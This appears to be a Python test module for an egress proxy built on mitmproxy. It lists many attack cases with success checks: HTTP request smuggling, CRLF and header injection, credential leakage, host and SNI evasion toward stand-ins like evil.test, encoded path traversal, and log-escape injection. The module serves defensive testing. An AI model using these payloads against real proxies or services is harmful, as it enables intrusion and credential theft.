"""The attacks on egress: what is sent, and how it shows that an attack has worked.

`/admin` of api.test is the strict route (GET only, token-of-admin), everything else there the general one. The routes
are in proxy.ROUTES.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from . import client
from .origin import Record
from .proxy import Mitmdump

MARK = b"MARKED-BY-THE-ATTACK"
SECRET = b"credential-of-the-agent"
END = b"\r\n\r\n"


@dataclass
class Evidence:
    """What an attack has left behind."""

    origin: Record
    answer: bytes
    log: bytes


Send = Callable[[Mitmdump], bytes]
Worked = Callable[[Evidence], bool]


@dataclass(frozen=True)
class Attack:
    """One attack. ``control``: options of the unguarded proxy under which it works."""

    name: str
    send: Send
    worked: Worked
    control: tuple[str, ...] = ()
    chains: tuple[str, ...] = ("regular", "upstream")


def arrived(evidence: Evidence) -> bool:
    """The mark has reached the origin."""
    return MARK in evidence.origin.raw


def leaked(evidence: Evidence) -> bool:
    """A credential of the agent has reached the origin."""
    return SECRET in evidence.origin.raw


def smuggled(evidence: Evidence) -> bool:
    """The origin has read a request that was hidden in another one."""
    return any(MARK in seen.line for seen in evidence.origin.requests)


def switched(evidence: Evidence) -> bool:
    """Bytes have reached the origin after its 101."""
    return bool(evidence.origin.raw.partition(END)[2])


def connected(evidence: Evidence) -> bool:
    """A connection to the origin was opened."""
    return evidence.origin.connections > 0


def plain(data: bytes) -> Send:
    """Bytes to the proxy's port."""

    def send(proxy: Mitmdump) -> bytes:
        with client.connect(proxy.port) as stream:
            client.write(stream, data)
            return client.read(stream)

    return send


def pieces(*parts: bytes, authority: str = "open.test:80") -> Send:
    """Bytes in a tunnel without TLS, each piece in a segment of its own."""

    def send(proxy: Mitmdump) -> bytes:
        try:
            stream = client.connect(proxy.port, authority)
        except ConnectionError as error:
            return bytes(error.args[0])
        with stream:
            found = b""
            for part in parts:
                client.write(stream, part)
                found += client.read(stream, 0.2 if len(parts) > 1 else client.IDLE)
            return found

    return send


def tls(*parts: bytes, authority: str = "api.test:443", name: str | None = "api.test") -> Send:
    """Bytes in TLS in a tunnel."""

    def send(proxy: Mitmdump) -> bytes:
        try:
            stream = client.tunnel(proxy.port, authority, name)
        except ConnectionError as error:
            return bytes(error.args[0]) if error.args and isinstance(error.args[0], bytes) else b""
        with stream:
            found = b""
            for part in parts:
                client.write(stream, part)
                found += client.read(stream, 0.3 if len(parts) > 1 else client.IDLE)
            return found

    return send


@dataclass(frozen=True)
class H2:
    """One HTTP/2 request in TLS, in a tunnel or (where ``authority`` is empty) to the proxy's port."""

    path: bytes = b"/x"
    method: bytes = b"GET"
    headers: tuple[client.Field, ...] = ()
    body: bytes = b""
    trailers: tuple[client.Field, ...] = ()
    host: bytes = b"api.test"
    scheme: bytes = b"https"
    authority: str = "api.test:443"

    def __call__(self, proxy: Mitmdump) -> bytes:
        """Sends it."""
        if self.authority:
            stream = client.tunnel(proxy.port, self.authority, "api.test", offer_http2=True)
        else:
            stream = client.direct(proxy.port, offer_http2=True)
        pseudo = [(b":method", self.method), (b":scheme", self.scheme), (b":authority", self.host), (b":path", self.path)]
        with stream:
            return client.http2(stream, [*pseudo, *self.headers], self.body, self.trailers)


def get(path: bytes, host: bytes = b"api.test", *more: bytes, method: bytes = b"GET", body: bytes = b"") -> bytes:
    """A request in origin form."""
    return b"\r\n".join([method + b" " + path + b" HTTP/1.1", b"Host: " + host, *more]) + END + body


def absolute(path: bytes, *more: bytes, method: bytes = b"GET", host: bytes = b"open.test", body: bytes = b"") -> bytes:
    """A request in absolute form."""
    return get(b"http://" + host + path, host, *more, method=method, body=body)


HIDDEN = b"DELETE /" + MARK + b" HTTP/1.1\r\nHost: api.test\r\n\r\n"
WEBSOCKET = (
    b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Version: 13",
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)  # fmt: skip
FRAME = b"\x81\x94\x00\x00\x00\x00" + MARK
# HTTP/2 values do not end in white space.
HIDDEN_VALUE = b"1" + END + HIDDEN.removesuffix(END) + b"\r\nX: y"
LAZY = ("connection_strategy=lazy",)
"""mitmproxy offers HTTP/2 to a client before it knows that the origin speaks only HTTP/1."""

NOT_HTTP = [
    Attack("bytes-in-a-tunnel", pieces(b"\x00\x01" + MARK), arrived),
    Attack("a-line-in-a-tunnel", pieces(b"HELO-" + MARK + b"\r\n"), arrived),
    Attack("ssh-in-a-tunnel", pieces(b"SSH-2.0-" + MARK + b"\r\n"), arrived),
    Attack("blank-line-then-a-request", pieces(b"\r\n\r\n" + HIDDEN), arrived),
    Attack("newline-then-a-request", pieces(b"\n" + HIDDEN), arrived),
    Attack("space-then-a-request", pieces(b" " + HIDDEN), arrived),
    Attack("digits-then-a-request", pieces(b"123 " + HIDDEN), arrived),
    Attack("two-bytes-then-the-rest", pieces(HIDDEN[:2], HIDDEN[2:]), arrived),
    Attack("one-byte-then-the-rest", pieces(HIDDEN[:1], HIDDEN[1:]), arrived),
    Attack("bytes-in-tls", tls(b"\x00\x01" + MARK), arrived),
    Attack("blank-line-then-a-request-in-tls", tls(b"\r\n\r\n" + HIDDEN), arrived),
    Attack("two-bytes-then-the-rest-in-tls", tls(HIDDEN[:2], HIDDEN[2:]), arrived),
    Attack("dns-in-a-tunnel", pieces(b"\x00\x2b\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x14" + MARK + b"\x04test\x00\x00\x01\x00\x01", authority="dns.test:53"), lambda evidence: b"\x12\x34\x01" in evidence.origin.raw),
    Attack("upgrade-to-bytes", plain(absolute(b"/x", b"Connection: Upgrade", b"Upgrade: bytes")), lambda evidence: b"101" in evidence.answer[:20]),
    Attack("upgrade-then-a-request", pieces(get(b"/x", b"open.test", b"Connection: Upgrade", b"Upgrade: bytes"), HIDDEN), arrived),
    Attack("upgrade-then-a-request-in-tls", tls(get(b"/x", b"api.test", b"Connection: Upgrade", b"Upgrade: bytes"), HIDDEN), arrived),
    Attack("websocket-without-a-route-for-it", tls(get(b"/x", b"api.test", *WEBSOCKET), FRAME), switched),
    Attack("two-upgrades", tls(get(b"/x", b"api.test", b"Connection: Upgrade", b"Upgrade: websocket, bytes"), HIDDEN), arrived),
    Attack("switched-unasked", tls(get(b"/switch", b"api.test", b"Sec-WebSocket-Version: 13"), FRAME), switched),
    Attack("switched-unasked-then-bytes", pieces(get(b"/switch", b"open.test"), HIDDEN), arrived),
]  # fmt: skip

HTTP_2 = [
    Attack("h2-line-end-in-a-value", H2(headers=((b"x", b"1\r\nX-Hidden: " + MARK),)), lambda evidence: any(seen.values(b"x-hidden") for seen in evidence.origin.requests), LAZY),
    Attack("h2-request-in-a-value", H2(headers=((b"x", HIDDEN_VALUE),)), smuggled, LAZY),
    Attack("h2-request-in-the-query", H2(path=b"/x?a HTTP/1.1\r\nHost: api.test\r\n\r\n" + HIDDEN + b"GET /y"), smuggled, LAZY),
    Attack("h2-request-in-the-path", H2(path=b"/x HTTP/1.1\r\nHost: api.test\r\n\r\n" + HIDDEN + b"GET /y"), smuggled, LAZY),
    Attack("h2-space-in-the-query", H2(path=b"/x?a HTTP/1.1 " + MARK), arrived, LAZY),
    Attack("h2-request-in-the-method", H2(method=HIDDEN + b"GET"), smuggled, LAZY),
    Attack("h2-body-without-a-length", H2(method=b"POST", body=HIDDEN), smuggled, LAZY),
    Attack("h2-token-into-a-body", H2(method=b"POST", headers=((b"content-length", b"0"), (b"x", b"1\r\nContent-Length: 400\r\n\r\n" + MARK)), path=b"/x"), arrived, LAZY),
    Attack("h2-nul-in-a-value", H2(headers=((b"x", b"\x00" + MARK),)), arrived, LAZY),
    Attack("h2-line-feed-in-a-value", H2(headers=((b"x", b"1\nX-Hidden: " + MARK),)), arrived, LAZY),
    Attack("h2-to-the-proxys-port", H2(headers=((b"x", HIDDEN_VALUE),), authority=""), smuggled, (), ("upstream",)),
    Attack("h2-credential", H2(headers=((b"authorization", SECRET),)), leaked, LAZY),
]  # fmt: skip

FRAMING = [
    Attack("length-and-chunked", plain(absolute(b"/x", b"Content-Length: 4", b"Transfer-Encoding: chunked", method=b"POST", body=b"0\r\n\r\n" + HIDDEN)), arrived, ("validate_inbound_headers=false",)),
    Attack("gzip-and-chunked", plain(absolute(b"/x", b"Transfer-Encoding: gzip, chunked", method=b"POST", body=b"14\r\n" + MARK + b"\r\n0\r\n\r\n")), arrived),
    Attack("chunked-in-http-1.0", plain(b"POST http://open.test/x HTTP/1.0\r\nHost: open.test\r\nTransfer-Encoding: chunked\r\n\r\n14\r\n" + MARK + b"\r\n0\r\n\r\n"), arrived, ("validate_inbound_headers=false",)),
    Attack("transfer_encoding", plain(absolute(b"/x", b"Transfer_Encoding: chunked", b"Content-Length: 20", method=b"POST", body=MARK)), lambda evidence: any(seen.values(b"transfer_encoding") for seen in evidence.origin.requests)),
    Attack("content_length", plain(absolute(b"/x", b"Content_Length: 7")), lambda evidence: any(seen.values(b"content_length") for seen in evidence.origin.requests)),
    Attack("folded-header", plain(absolute(b"/x", b"X: 1\r\n " + MARK)), arrived),
    Attack("folded-host", plain(absolute(b"/x", b"X: 1\r\n Host: " + MARK)), arrived),
    Attack("carriage-return-in-a-value", plain(absolute(b"/x", b"X: 1\rHost: " + MARK)), arrived),
    Attack("nul-in-a-value", plain(absolute(b"/x", b"X: \x00" + MARK)), arrived),
    Attack("escape-in-a-value", plain(absolute(b"/x", b"X: \x1b[2J" + MARK)), arrived),
    Attack("version-0.9", plain(b"GET http://open.test/" + MARK + b" HTTP/0.9\r\nHost: open.test\r\n\r\n"), arrived),
    Attack("version-7.3", plain(b"GET http://open.test/" + MARK + b" HTTP/7.3\r\nHost: open.test\r\n\r\n"), arrived),
    Attack("two-hosts", plain(absolute(b"/" + MARK, b"Host: evil.test")), arrived),
    Attack("expectation", plain(absolute(b"/x", b"Expect: " + MARK)), arrived),
    Attack("many-headers", plain(absolute(b"/" + MARK, *(b"X-%d: 1" % at for at in range(500)))), arrived),
    Attack("large-headers", plain(absolute(b"/" + MARK, *(b"X-%d: %s" % (at, b"1" * 4000) for at in range(20)))), arrived),
    Attack("method-override", tls(get(b"/admin/x", b"api.test", b"X-HTTP-Method-Override: DELETE")), lambda evidence: any(seen.values(b"x-http-method-override") for seen in evidence.origin.requests)),
    Attack("path-override", tls(get(b"/x", b"api.test", b"X-Original-URL: /admin")), lambda evidence: any(seen.values(b"x-original-url") for seen in evidence.origin.requests)),
    Attack("host-override", tls(get(b"/x", b"api.test", b"X-Forwarded-Host: evil.test")), lambda evidence: any(seen.values(b"x-forwarded-host") for seen in evidence.origin.requests)),
]  # fmt: skip

CREDENTIALS = [
    Attack("authorization", tls(get(b"/x", b"api.test", b"Authorization: " + SECRET)), leaked),
    Attack("authorization-in-capitals", tls(get(b"/x", b"api.test", b"AUTHORIZATION: " + SECRET)), leaked),
    Attack("authorization-twice", tls(get(b"/x", b"api.test", b"Authorization: a", b"authorization: " + SECRET)), leaked),
    Attack("proxy-authorization", plain(absolute(b"/x", b"Proxy-Authorization: " + SECRET)), leaked),
    Attack("proxy_authorization", plain(absolute(b"/x", b"Proxy_Authorization: " + SECRET)), leaked),
    Attack("connection-names-the-token", tls(get(b"/x", b"api.test", b"Connection: Authorization")), lambda evidence: b"connection: authorization" in evidence.origin.raw.lower()),
    Attack("hop-by-hop", tls(get(b"/x", b"api.test", b"Connection: X-Hop", b"X-Hop: " + MARK, b"Keep-Alive: " + MARK, b"TE: trailers")), arrived),
    Attack("trailer-announced", plain(absolute(b"/x", b"Trailer: authorization", b"Transfer-Encoding: chunked", method=b"POST", body=b"0\r\n\r\n")), lambda evidence: any(seen.values(b"trailer") for seen in evidence.origin.requests)),
    Attack("trailers-stop-a-stream", plain(absolute(b"/x", b"Transfer-Encoding: chunked", method=b"POST", body=b"1\r\na\r\n0\r\nAuthorization: " + SECRET + END)), lambda evidence: b"200 OK" not in evidence.answer),
    Attack("trailers-of-the-origin-stop-a-stream", plain(absolute(b"/trailers")), lambda evidence: b"ok" not in evidence.answer),
]  # fmt: skip

METHODS = [
    Attack(f"method-{method.decode()}", plain(absolute(b"/" + MARK, method=method)), arrived)
    for method in (b"TRACE", b"TRACK", b"PROPFIND", b"get", b"MOVE", b"DEBUG", b"GE%T")
] + [
    Attack("method-of-another-route", tls(get(b"/admin/" + MARK, method=b"POST")), arrived),
]  # fmt: skip

PLACES = [
    Attack("another-host", plain(absolute(b"/" + MARK, host=b"evil.test")), arrived),
    Attack("another-host-in-a-tunnel", tls(get(b"/" + MARK, b"evil.test"), authority="evil.test:443", name="evil.test"), arrived),
    Attack("another-port", pieces(get(b"/" + MARK, b"dns.test:80"), authority="dns.test:80"), arrived),
    Attack("an-address", lambda proxy: plain(absolute(b"/" + MARK, host=b"127.0.0.1:%d" % proxy.ports[80]))(proxy), arrived, (), ("regular",)),
    Attack("an-address-beyond", plain(absolute(b"/" + MARK, host=b"192.0.2.7")), arrived, (), ("upstream",)),
    Attack("an-address-with-an-allowed-host", lambda proxy: plain(get(b"http://127.0.0.1:%d/" % proxy.ports[80] + MARK, b"open.test"))(proxy), arrived, (), ("regular",)),
    Attack("an-allowed-host-with-another-one", plain(get(b"http://open.test/" + MARK, b"evil.test")), arrived),
    Attack("another-host-in-the-tunnel-of-an-allowed-one", tls(get(b"/" + MARK, b"evil.test")), arrived),
    Attack("another-sni", tls(get(b"/" + MARK), name="evil.test"), arrived),
    Attack("another-sni-opens-a-connection", tls(b"", name="evil.test"), connected),
    Attack("a-tunnel-opens-a-connection", pieces(b""), connected, (), ("regular",)),
    Attack("an-address-in-decimal", plain(absolute(b"/" + MARK, host=b"3221226247")), arrived),
    Attack("a-host-with-a-port-of-another", plain(absolute(b"/" + MARK, host=b"open.test:53")), arrived),
    Attack("origin-form-to-the-port", plain(get(b"/" + MARK, b"evil.test")), arrived, (), ("regular",)),
    Attack("the-proxys-own-pages", plain(absolute(b"/", host=b"mitm.it")), lambda evidence: b"mitmproxy" in evidence.answer),
    Attack("a-path-outside", plain(absolute(b"/" + MARK, host=b"some.test")), arrived),
    Attack("a-path-that-only-begins-alike", plain(absolute(b"/public/" + MARK, host=b"some.test")), arrived),
]  # fmt: skip

CLIMBING = {
    "dots": b"/pub/../", "encoded-dots": b"/pub/%2e%2e/", "half-encoded-dots": b"/pub/.%2e/",
    "twice-encoded-dots": b"/pub/%252e%252e/", "dots-with-a-parameter": b"/pub/..;/", "backslash": b"/pub/..\\",
    "encoded-backslash": b"/pub/..%5c", "encoded-slash": b"/pub/..%2f", "dots-of-another-script": b"/pub/%E2%80%A4%E2%80%A4/",
    "fullwidth-slash": b"/pub/..%EF%BC%8F", "overlong": b"/pub/%c0%ae%c0%ae/", "nul": b"/pub/%00/../", "dot": b"/pub/./../",
}  # fmt: skip
CLIMBS = [
    Attack(f"climb-{name}", plain(absolute(path + MARK, host=b"some.test")), arrived) for name, path in CLIMBING.items()
]

SPELLINGS = {
    "encoded-slash": b"/admin%2f", "parameter": b"/admin;a/", "twice-encoded": b"/%2561dmin/", "capital": b"/Admin/",
    "capitals": b"/ADMIN/", "trailing-dot": b"/admin./", "trailing-space": b"/admin%20/", "question-mark": b"/admin%3f/",
    "hash": b"/admin%23/", "twice-encoded-slash": b"/admin%252f", "fullwidth": b"/%EF%BD%81dmin/",
    "fullwidth-slash": b"/admin%EF%BC%8F", "kelvin-free-capital": b"/adm%C4%B1n/".replace(b"%C4%B1", b"I"),
    "empty-segment": b"//admin/", "parameter-in-front": b"/;a/admin/", "encoded-parameter": b"/admin%3ba/",
}  # fmt: skip
ROUTES = [Attack(f"spelling-{name}", tls(get(path + MARK)), arrived) for name, path in SPELLINGS.items()]

LOG_BREAKS = {"u2028": "\u2028", "u2029": "\u2029", "u0085": "\u0085", "c1": "\x9b2J", "right-to-left": "\u202e"}


def logged(breaker: bytes) -> Worked:
    """The log has characters that begin a line or move a terminal's cursor."""
    return lambda evidence: breaker + MARK in evidence.log


LOGS = [
    attack
    for name, text in LOG_BREAKS.items()
    for attack in (
        Attack(f"log-{name}-in-a-method", plain(absolute(b"/x", method=text.encode() + MARK)), logged(text.encode())),
        Attack(f"log-{name}-in-a-path", pieces(get(b"/" + text.encode() + MARK, b"open.test")), logged(text.encode())),
    )
]

EXPECT = [
    Attack("continue-before-a-denial", plain(absolute(b"/x", b"Expect: 100-continue", b"Content-Length: 20", host=b"evil.test", method=b"POST")), lambda evidence: b"100 Continue" in evidence.answer),
]  # fmt: skip

ALL = [*NOT_HTTP, *HTTP_2, *FRAMING, *CREDENTIALS, *METHODS, *PLACES, *CLIMBS, *ROUTES, *LOGS, *EXPECT]
